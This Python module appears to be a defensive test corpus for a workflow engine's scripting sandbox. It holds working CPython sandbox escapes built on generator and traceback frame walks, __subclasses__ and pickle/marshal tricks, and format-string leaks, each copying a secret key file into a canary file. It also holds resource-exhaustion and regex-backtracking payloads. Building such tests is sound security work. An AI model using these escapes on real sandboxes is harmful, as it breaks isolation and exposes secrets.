"""A corpus of known CPython sandbox escapes and resource attacks, as a designer would write them.

Each payload has a script form (Python statements, for a script task) and, where Python allows it, an
expression form (one expression, for a condition, an assignee, a DMN cell or a form condition); where
it does not, those vectors get the script text, as an attacker would try it. FEEL payloads carry FEEL
text. `CANARY` and `SECRET` stand for the canary file the test watches and the instance's secret key
file; `render()` puts the real paths in. An escape copies the secret key into the canary file, or
(the information leaks: format strings, frame locals) into the instance data: `leaked`, or the
list `box` the instance starts with.

The escapes are not toothless: test_escape_corpus.py runs each one under a naive sandbox (trimmed
`__builtins__`, as server/engine/scripting.py had; full builtins for `teeth="full"`) and checks that
it gets out.
"""
from __future__ import annotations

import dataclasses
import textwrap

# The goal, given a mapping `b` of the real builtins: the secret key copied into the canary file.
GOAL = "b['open'](CANARY, 'w').write(b['open'](SECRET).read())"
# From a frame `f`, up the stack to the first frame that runs with the real builtins, then the goal.
WALK = """\
while f is not None and 'exec' not in f.f_builtins:
    f = f.f_back
b = f.f_builtins
""" + GOAL + "\n"
# The same as one expression (a walrus in a comprehension binds in the enclosing scope).
WALK_EXPR = ("[(f := f.f_back) for _ in range(60) if f is not None and 'exec' not in f.f_builtins],"
             f" (b := f.f_builtins), {GOAL}")
WRAP_CLOSE = "[c for c in {classes} if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"


@dataclasses.dataclass(frozen=True)
class Payload:
    name: str
    family: str
    script: str  # Python statements (FEEL text for FEEL payloads)
    expression: str | None  # one expression; None where Python cannot say it in one
    language: str = "python"
    resource: bool = False  # a resource attack: /healthz and the server's idle CPU are checked after it
    leak: bool = False  # aims at the instance data (`leaked`) rather than the canary file
    teeth: str = "naive"  # the sandbox it gets out of: "naive" (trimmed builtins), "full", "none"

    def text(self, *, expression: bool) -> str:
        """The text for a script task (statements) or an expression vector."""
        return self.expression if expression and self.expression is not None else self.script

    @staticmethod
    def render(text: str, *, canary: str, secret: str) -> str:
        return text.replace("CANARY", repr(canary)).replace("SECRET", repr(secret))


def py(name: str, family: str, script: str, expression: str | None, *, walk: bool = False,
       **flags: object) -> Payload:
    body = textwrap.dedent(script).strip() + "\n" + (WALK if walk else "")
    if flags.get("leak"):
        # frames and generators are no process data: drop them so the leak is stored; an expression
        # cannot store, so it appends to a list the instance data holds (`box`, shared by reference)
        body += "g = f = fr = settings = value = None\n"
        expression = f"[{expression}, box.append(leaked)]" if expression else None
    return Payload(name, family, body, " ".join(expression.split()) if expression else None, **flags)  # type: ignore[arg-type]


def feel(name: str, text: str, **flags: object) -> Payload:
    return Payload(name, "feel", text, text, language="feel", teeth="none", **flags)  # type: ignore[arg-type]


GENEXPR_FRAME = "(g := (g.gi_frame.f_back for _ in [1])), (f := list(g)[0])"

PAYLOADS: tuple[Payload, ...] = (
    # --- generator, coroutine and async-generator frames -----------------------------------------
    py("genexpr_gi_frame_walk", "frames", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        """, f"[{GENEXPR_FRAME}, {WALK_EXPR}]", walk=True),
    py("issue17_gi_frame_f_back_f_back", "frames", """
        g = (g.gi_frame.f_back.f_back.f_builtins for _ in [1])
        b = list(g)[0]
        out = str(b['open'](CANARY, 'w').write(b['open'](SECRET).read()))
        del g
        """, f"[(g := (g.gi_frame.f_back.f_back.f_builtins for _ in [1])), (b := list(g)[0]), {GOAL}]"),
    py("generator_function_gi_frame", "frames", """
        def gen():
            yield me.gi_frame.f_back
        me = gen()
        for f in me:
            break
        """, f"[(me := (x.gi_frame.f_back for x in [1] for x in [me])), (f := list(me)[0]), {WALK_EXPR}]",
        walk=True),
    py("gi_frame_f_globals_builtins", "frames", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        while f is not None and 'open' not in str(f.f_globals.get('__builtins__')) and '<module' not in str(f.f_globals.get('__builtins__')):
            f = f.f_back
        b = f.f_globals['__builtins__']
        b = b if isinstance(b, dict) else b.__dict__
        """ + GOAL, f"[{GENEXPR_FRAME}, [(f := f.f_back) for _ in range(60) if f is not None and 'open' not in"
        " str(f.f_globals.get('__builtins__')) and '<module' not in str(f.f_globals.get('__builtins__'))], (b := f.f_globals['__builtins__']),"
        f" (b := b if isinstance(b, dict) else b.__dict__), {GOAL}]"),
    py("gi_frame_f_globals_sys_modules", "frames", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        while f is not None and 'sys' not in f.f_globals:
            f = f.f_back
        os = f.f_globals['sys'].modules['os']
        os.write(os.open(CANARY, os.O_WRONLY | os.O_CREAT), os.read(os.open(SECRET, os.O_RDONLY), 999))
        """, f"[{GENEXPR_FRAME}, [(f := f.f_back) for _ in range(60) if f is not None and 'sys' not in"
        " f.f_globals], (os := f.f_globals['sys'].modules['os']), os.write(os.open(CANARY, os.O_WRONLY |"
        " os.O_CREAT), os.read(os.open(SECRET, os.O_RDONLY), 999))]"),
    py("gi_frame_f_locals_secret", "frames", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        found = []
        while f is not None:
            for value in list(f.f_locals.values()):
                settings = getattr(value, 'settings', None)
                if settings is not None and hasattr(settings, 'secret_key'):
                    found.append(settings.secret_key)
            f = f.f_back
        leaked = found[0]
        """, f"[{GENEXPR_FRAME}, [(f := f.f_back) for _ in range(60) if f is not None and 'host' not in"
        " f.f_locals], (leaked := f.f_locals['host'].settings.secret_key)]", leak=True, teeth="none"),
    py("coroutine_cr_frame", "frames", """
        async def co():
            return c.cr_frame.f_back
        c = co()
        try:
            c.send(None)
        except Exception as stop:
            f = stop.value
        """, None, walk=True),
    py("async_generator_ag_frame", "frames", """
        async def agen():
            yield a.ag_frame.f_back
        a = agen()
        try:
            a.asend(None).send(None)
        except Exception as stop:
            f = stop.value
        """, None, walk=True),
    py("async_genexpr_ag_frame", "frames", """
        async def one():
            yield 1
        async def outer():
            return (ag.ag_frame.f_back async for _ in one())
        c = outer()
        try:
            c.send(None)
        except Exception as stop:
            ag = stop.value
        try:
            ag.asend(None).send(None)
        except Exception as stop:
            f = stop.value
        """, None, walk=True),
    py("gi_frame_captured_in_list", "frames", """
        frames = []
        g = (frames.append(g.gi_frame.f_back) for _ in [1])
        list(g)
        f = frames[0]
        """, f"[(fr := []), (g := (fr.append(g.gi_frame.f_back) for _ in [1])), list(g), (f := fr[0]), {WALK_EXPR}]",
        walk=True),
    # --- traceback frames ----------------------------------------------------------------------
    py("traceback_tb_frame", "traceback", """
        try:
            1 / 0
        except Exception as e:
            f = e.__traceback__.tb_frame
        """, None, walk=True),
    py("traceback_tb_next_f_back", "traceback", """
        def fail():
            return {}['missing']
        try:
            fail()
        except KeyError as e:
            f = e.__traceback__.tb_next.tb_frame.f_back
        """, None, walk=True),
    py("exception_context_traceback", "traceback", """
        try:
            try:
                [][1]
            except IndexError:
                raise ValueError('x')
        except ValueError as e:
            f = e.__context__.__traceback__.tb_frame
        """, None, walk=True),
    # --- __subclasses__ / __class__.__base__ walks ----------------------------------------------
    py("subclasses_wrap_close_globals", "subclasses", """
        for c in ().__class__.__base__.__subclasses__():
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes='().__class__.__base__.__subclasses__()')}), {GOAL}]"),
    py("subclasses_mro_catch_warnings", "subclasses", """
        for c in [].__class__.__mro__[-1].__subclasses__():
            if c.__name__ == 'catch_warnings':
                b = c()._module.__builtins__
        """ + GOAL, "[(b := [c for c in [].__class__.__mro__[-1].__subclasses__() if c.__name__ =="
        f" 'catch_warnings'][0]()._module.__builtins__), {GOAL}]"),
    py("subclasses_builtin_importer", "subclasses", """
        for c in ''.__class__.__bases__[0].__subclasses__():
            if c.__name__ == 'BuiltinImporter':
                posix = c.load_module('posix')
        fd = posix.open(CANARY, posix.O_WRONLY | posix.O_CREAT)
        posix.write(fd, posix.read(posix.open(SECRET, posix.O_RDONLY), 999))
        """, "[(p := [c for c in ''.__class__.__bases__[0].__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
        ".load_module('posix')), p.write(p.open(CANARY, p.O_WRONLY | p.O_CREAT), p.read(p.open(SECRET,"
        " p.O_RDONLY), 999))]"),
    py("metaclass_subclasses_of_object", "subclasses", """
        meta = (1).__class__.__class__
        for c in meta.__subclasses__((1).__class__.__base__):
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes='(1).__class__.__class__.__subclasses__((1).__class__.__base__)')}),"
        f" {GOAL}]"),
    py("reduce_ex_copyreg_globals", "subclasses", """
        b = (1).__reduce_ex__(2)[0].__globals__['__builtins__']
        """ + GOAL, f"[(b := (1).__reduce_ex__(2)[0].__globals__['__builtins__']), {GOAL}]"),
    py("builtin_function_self_module", "subclasses", """
        m = len.__self__
        m.open(CANARY, 'w').write(m.open(SECRET).read())
        """, "[(m := abs.__self__), m.open(CANARY, 'w').write(m.open(SECRET).read())]"),
    py("fullwidth_dunder_normalised", "subclasses", """
        for c in ().__ｃｌａｓｓ__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__():
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes='().__ｃｌａｓｓ__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__()')}), {GOAL}]"),
    # --- str.format and format_map attribute walks ---------------------------------------------
    py("format_frame_walk_secret", "format", """
        def attempts():
            for depth in range(1, 60):
                try:
                    yield ('{0' + '.f_back' * depth + '.f_locals[host].settings.secret_key}').format(me.gi_frame)
                except Exception:
                    pass
        me = attempts()
        leaked = list(me)[0]
        me = attempts = None
        """, "[(g := (g.gi_frame.f_back for _ in [1])), (f := list(g)[0]), [(f := f.f_back) for _ in range(60)"
        " if f is not None and 'host' not in f.f_locals], (leaked := '{0.f_locals[host].settings.secret_key}'"
        ".format(f))]", leak=True, teeth="none"),
    py("format_map_over_frame_locals", "format", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        while f is not None and 'host' not in f.f_locals:
            f = f.f_back
        leaked = '{host.settings.secret_key}'.format_map(f.f_locals)
        """, "[(g := (g.gi_frame.f_back for _ in [1])), (f := list(g)[0]), [(f := f.f_back) for _ in range(60)"
        " if f is not None and 'host' not in f.f_locals], (leaked := '{host.settings.secret_key}'"
        ".format_map(f.f_locals))]", leak=True, teeth="none"),
    py("format_dunder_globals_walk", "format", """
        leaked = '{0.__globals__[__builtins__][open]}'.format((1).__reduce_ex__(2)[0])
        subclasses = '{0.__class__.__base__.__subclasses__}'.format(())
        """, "(leaked := '{0.__globals__[__builtins__][open]}-{1.__self__.open}'.format((1).__reduce_ex__(2)[0], len))",
        leak=True, teeth="none"),
    py("string_formatter_get_field", "format", """
        import string
        leaked = string.Formatter().get_field('0.__class__.__mro__', [()], {})[0]
        """, None, leak=True, teeth="none"),
    py("fstring_attribute_walk", "format", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        leaked = f'{f.f_back.f_globals}'
        """, f"[{GENEXPR_FRAME}, (leaked := f'{{f.f_back.f_globals}}')]", leak=True, teeth="none"),
    # --- __getattribute__, computed getattr, type/vars/dir, __builtins__ ---------------------------
    py("getattribute_computed_name", "getattr", """
        name = 'gi' + '_' + 'frame'
        g = (g.__getattribute__(name).f_back for _ in [1])
        f = list(g)[0]
        """, "[(g := (g.__getattribute__('gi_' + 'frame').f_back for _ in [1])), (f := list(g)[0]),"
        f" {WALK_EXPR}]", walk=True),
    py("object_getattribute_dunder", "getattr", """
        cls = ().__getattribute__('_' + '_class_' + '_')
        for c in cls.__base__.__subclasses__():
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes=chr(40) + chr(41) + '.__getattribute__(' + chr(39) + '_' + chr(39) + ' * 2 + ' + chr(39) + 'class' + chr(39) + ' + ' + chr(39) + '_' + chr(39) + ' * 2).__base__.__subclasses__()')}),"
        f" {GOAL}]"),
    py("computed_getattr", "getattr", """
        d = '_' * 2
        base = getattr(getattr((), d + 'class' + d), d + 'base' + d)
        for c in getattr(base, d + 'subclasses' + d)():
            if getattr(c, d + 'name' + d) == '_wrap_close':
                b = getattr(getattr(c, d + 'init' + d), d + 'globals' + d)['__builtins__']
        """ + GOAL, "[(d := '_' * 2), (c := [c for c in getattr(getattr(getattr((), d + 'class' + d), d + 'base' + d),"
        " d + 'subclasses' + d)() if getattr(c, d + 'name' + d) == '_wrap_close'][0]), (b := getattr(getattr(c,"
        f" d + 'init' + d), d + 'globals' + d)['__builtins__']), {GOAL}]", teeth="full"),
    py("getattr_from_escaped_builtins", "getattr", """
        g = (g.gi_frame.f_back for _ in [1])
        f = list(g)[0]
        while 'getattr' not in f.f_builtins:
            f = f.f_back
        ga = f.f_builtins['get' + 'attr']
        b = ga(ga(len, '_' * 2 + 'self' + '_' * 2), '_' * 2 + 'dict' + '_' * 2)
        """ + GOAL, f"[{GENEXPR_FRAME}, [(f := f.f_back) for _ in range(60) if f is not None and 'getattr' not in"
        " f.f_builtins], (ga := f.f_builtins['get' + 'attr']), (b := ga(ga(len, '_' * 2 + 'self' + '_' * 2),"
        f" '_' * 2 + 'dict' + '_' * 2)), {GOAL}]"),
    py("getattr_computed_frame_names", "getattr", """
        g = (getattr(getattr(g, 'gi' + '_frame'), 'f' + '_back') for _ in [1])
        f = list(g)[0]
        while 'exec' not in getattr(f, 'f_' + 'builtins'):
            f = getattr(f, 'f_' + 'back')
        b = getattr(f, 'f_' + 'builtins')
        """ + GOAL, "[(g := (getattr(getattr(g, 'gi' + '_frame'), 'f' + '_back') for _ in [1])), (f := list(g)[0]),"
        " [(f := getattr(f, 'f_back')) for _ in range(60) if 'exec' not in getattr(f, 'f_builtins')],"
        f" (b := getattr(f, 'f_builtins')), {GOAL}]", teeth="full"),
    py("map_getattr_hides_the_call", "getattr", """
        g = (list(map(getattr, list(map(getattr, [g], ['gi_frame'])), ['f_back']))[0] for _ in [1])
        f = list(g)[0]
        """, None, walk=True, teeth="full"),
    py("type_vars_dir", "getattr", """
        names = dir(type(()))
        for c in vars(type)['__subclasses__'](type(()).__base__):
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes=chr(118) + 'ars(type)[' + repr('__subclasses__') + '](type(()).__base__)')}),"
        f" {GOAL}]", teeth="full"),
    py("dunder_builtins_name", "builtins", """
        b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
        """ + GOAL, "[(b := __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__),"
        f" {GOAL}]", teeth="full"),
    py("globals_eval_compile", "builtins", """
        scope = globals()
        eval(compile("open(" + repr(CANARY) + ", 'w').write(open(" + repr(SECRET) + ").read())", 'x', 'eval'))
        """, "eval(compile('open(' + repr(CANARY) + \", 'w').write(open(\" + repr(SECRET) + ').read())', 'x',"
        " 'eval'))", teeth="full"),
    py("import_shutil", "builtins", """
        import shutil
        shutil.copy(SECRET, CANARY)
        """, "__import__('shutil').copy(SECRET, CANARY)", teeth="full"),
    # --- operator.attrgetter, pickle, marshal ----------------------------------------------------
    py("operator_attrgetter_dotted", "modules", """
        from operator import attrgetter
        g = (attrgetter('gi_frame.f_back')(g) for _ in [1])
        f = list(g)[0]
        """, "[(at := __import__('operator').attrgetter), (g := (at('gi_frame.f_back')(g) for _ in [1])),"
        f" (f := list(g)[0]), {WALK_EXPR}]", walk=True, teeth="full"),
    py("pickle_reduce_global", "modules", """
        import pickle
        pickle.loads(b"cbuiltins\\neval\\n(Vopen(" + repr(CANARY).encode() + b", 'w').write(open("
                     + repr(SECRET).encode() + b").read())\\ntR.")
        """, "__import__('pickle').loads(b'cbuiltins\\neval\\n(Vopen(' + repr(CANARY).encode() + b\", 'w')"
        ".write(open(\" + repr(SECRET).encode() + b').read())\\ntR.')", teeth="full"),
    py("marshal_code_object", "modules", """
        import marshal
        code = marshal.dumps(compile("open(" + repr(CANARY) + ", 'w').write(open(" + repr(SECRET) + ").read())",
                                     'x', 'exec'))
        exec(marshal.loads(code))
        """, "exec(__import__('marshal').loads(__import__('marshal').dumps(compile('open(' + repr(CANARY) + \","
        " 'w').write(open(\" + repr(SECRET) + ').read())', 'x', 'exec'))))", teeth="full"),
    # --- decorators and lambdas hiding attribute access ------------------------------------------
    py("decorator_hides_frame_walk", "decorators", """
        def running_frame(gen):
            return list(gen())[0]
        @running_frame
        def f():
            yield f.gi_frame.f_back
        """, None, walk=True, teeth="none"),
    py("decorator_generator_frame", "decorators", """
        frame = lambda gen: [x for x in (lambda it: it)(gen(lambda: holder[0]))]
        holder = []
        @frame
        def walk(me):
            yield me().gi_frame.f_back
        f = walk[0]
        """, None, teeth="none"),
    py("lambda_default_argument", "decorators", """
        g = (g.gi_frame.f_back for _ in [1])
        f = (lambda it=g: list(it)[0])()
        """, f"[(g := (g.gi_frame.f_back for _ in [1])), (f := (lambda it=g: list(it)[0])()), {WALK_EXPR}]",
        walk=True),
    py("class_decorator_subclasses", "decorators", """
        @lambda cls: cls.__base__.__subclasses__()
        class Walk:
            pass
        for c in Walk:
            if c.__name__ == '_wrap_close':
                b = c.__init__.__globals__['__builtins__']
        """ + GOAL, f"[(b := {WRAP_CLOSE.format(classes='(lambda k: k.__base__.__subclasses__())(().__class__)')}),"
        f" {GOAL}]"),
    py("lambda_closure_generator", "decorators", """
        def outer():
            g = (g.gi_frame.f_back.f_back for _ in [1])
            return lambda: list(g)[0]
        f = outer()()
        """, f"[(g := (g.gi_frame.f_back for _ in [1])), (f := (lambda: list(g)[0])()), {WALK_EXPR}]", walk=True),
    # --- resource attacks ------------------------------------------------------------------------
    py("while_true", "resource", """
        while True:
            pass
        """, "sum(range(10 ** 18)) > 0", resource=True, teeth="none"),
    py("string_times_ten_to_ten", "resource", "s = 'a' * 10 ** 10", "len('a' * 10 ** 10) > 0", resource=True,
       teeth="none"),
    py("ten_to_ten_to_ten", "resource", "n = 10 ** 10 ** 10", "10 ** 10 ** 10 > 1", resource=True, teeth="none"),
    py("deep_recursion", "resource", """
        def down(n):
            return down(n + 1) + 1
        down(0)
        """, "(lambda f: f(f, 0))(lambda f, n: f(f, n + 1))", resource=True, teeth="none"),
    py("deeply_nested_result", "resource", """
        x = []
        for _ in range(200000):
            x = [x]
        """, "[(x := []), [(x := [x]) for _ in range(200000)], x][2]", resource=True, teeth="none"),
    py("huge_output", "resource", "s = 'a' * (20 * 10 ** 6)", "'a' * (20 * 10 ** 6)", resource=True, teeth="none"),
    py("huge_list", "resource", "x = [0] * 10 ** 10", "len([0] * 10 ** 10) > 0", resource=True, teeth="none"),
    # --- FEEL: what a designer can write once everything is FEEL ---------------------------------
    feel("feel_dunder_path", 'string(date("2026-01-01").__class__) != null'),
    feel("feel_matches_backtracking", 'matches("' + "a" * 40 + '!", "^(a+)+$")', resource=True),
    feel("feel_split_backtracking", 'count(split("' + "a" * 40 + '!", "(a+)+b")) > 0', resource=True),
    feel("feel_huge_exponent", "10 ** 999999999 > 1", resource=True),
    feel("feel_deep_nesting", "(" * 5000 + "1" + ")" * 5000 + " > 0", resource=True),
    feel("feel_long_string_concat", "string length(" + " + ".join(['"' + "a" * 1000 + '"'] * 200) + ") > 0",
         resource=True),
)

BY_NAME = {payload.name: payload for payload in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"
